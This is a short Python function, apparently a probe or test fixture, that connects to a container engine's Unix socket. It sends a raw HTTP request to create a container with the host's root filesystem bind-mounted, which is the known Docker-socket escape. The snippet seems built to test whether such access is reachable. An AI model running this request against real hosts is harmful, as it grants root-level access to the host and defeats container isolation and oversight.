import socket


def attempt(scene):
    body = b'{"Image":"decoy","HostConfig":{"Binds":["/:/host"]},"Cmd":[]}'
    head = "POST /containers/create HTTP/1.1\r\nHost: engine\r\nContent-Length: %d\r\n\r\n" % len(body)
    with socket.socket(socket.AF_UNIX) as stream:
        stream.connect(scene["unix-stream"])
        stream.sendall(head.encode() + body)
